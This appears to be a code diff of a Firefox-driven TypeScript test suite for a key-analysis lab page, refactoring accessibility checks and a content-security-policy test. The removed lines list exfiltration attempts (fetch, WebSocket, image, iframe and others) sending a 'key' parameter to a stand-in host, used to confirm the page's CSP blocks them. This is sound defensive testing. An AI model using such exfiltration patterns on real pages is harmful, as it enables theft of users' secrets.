@@ -2,7 +2,6 @@
 
 import { appendFileSync, readFileSync, rmSync, statSync } from 'node:fs';
 import { gzipSync } from 'node:zlib';
-import axe from 'axe-core';
 import { suite } from 'uvu';
 import * as assert from 'uvu/assert';
 import type { PlanAnswer } from '../../src/analysis/plan/types.ts';
@@ -12,7 +11,8 @@ import { madeKeys } from '../../src/lab/models/keys.ts';
 import { policies } from '../../src/lab/models/policies.ts';
 import { panels } from '../../src/lab/panels/index.ts';
 import { keylane, root } from '../cli/run.ts';
-import { Firefox, firefoxProgram } from './firefox.ts';
+import { type Firefox, hasFirefox } from './firefox.ts';
+import { refusedWaysOut } from './in-page.ts';
 import { STATES } from './lab-states.ts';
 import { kcatText, mixedText, NASTY_KEYS, sourceFile } from './sources.ts';
 
@@ -56,32 +56,17 @@ async function give(file: string): Promise<void> {
   await firefox.setFile('input[type=file]', file);
 }
 
-async function findings(): Promise<string[]> {
-  await firefox.load(axe.source);
-  return firefox.run(async () => {
-    const { violations } = await (globalThis as unknown as { axe: typeof axe }).axe.run(document, {
-      runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice'],
-    });
-    return violations.map(({ id, nodes }) => `${id}: ${nodes[0].html.slice(0, 200)}`);
-  });
-}
+const use = (started: Firefox): void => {
+  firefox = started;
+};
 
-if (firefoxProgram === undefined) {
-  test('left out: no Firefox on the PATH (Debian: apt-get install firefox-esr)', () => {
-    console.log('left out: no Firefox on the PATH (Debian: apt-get install firefox-esr)');
-  });
-} else {
-  test.before(async () => {
-    firefox = await Firefox.launch();
-  });
-  test.after(() => firefox.close());
-
+if (hasFirefox(test, use)) {
   for (const hash of STATES) {
     test(`#${hash}: nothing is complained about`, async () => {
       await open(hash);
       await firefox.text('#panel h2');
       assert.ok(await firefox.run(() => document.documentElement.scrollWidth <= innerWidth));
-      assert.equal(await findings(), []);
+      assert.equal(await firefox.axeFindings(), []);
       assert.is(await count('[role=alert]'), 0);
     });
   }
@@ -128,30 +113,9 @@ if (firefoxProgram === undefined) {
 
   test('your keys never leave this page: no way out is open', async () => {
     await open('');
-    const refused = await firefox.run(async () => {
-      const broken: string[] = [];
-      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => broken.push(effectiveDirective));
-      const away = 'https://example.com/?key=order-1001';
-      const tries: (() => unknown)[] = [
-        () => fetch(away),
-        () => new WebSocket('wss://example.com/'),
-        () => new EventSource(away),
-        () => Object.assign(new Image(), { src: away }),
-        () => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: away })),
-        () => document.body.append(Object.assign(document.createElement('iframe'), { src: away })),
-        () => document.body.append(Object.assign(document.createElement('video'), { src: away })),
-      ];
-      for (const attempt of tries) {
-        try {
-          await attempt();
-        } catch {
-          // It is counted by its violation.
-        }
-      }
-      await new Promise(resolve => setTimeout(resolve, 500));
-      return [...new Set(broken)].sort();
-    });
-    assert.equal(refused, ['connect-src', 'frame-src', 'img-src', 'media-src', 'style-src-elem']);
+    const refused = new Set(await firefox.run(refusedWaysOut));
+    const directives = ['connect-src', 'form-action', 'frame-src', 'img-src', 'media-src', 'style-src-elem'];
+    assert.equal([...refused].sort(), directives);
   });
 
   test('tabs by keyboard: arrows go from one to the next, Home and End to the ends', async () => {
@@ -295,7 +259,7 @@ if (firefoxProgram === undefined) {
       await give(file);
       await firefox.text('#panel .figures');
       assert.match(keylane(['who', file]).out, (await verdict()).replace(/\.$/, ''));
-      assert.equal(await findings(), []);
+      assert.equal(await firefox.axeFindings(), []);
     });
   }
 
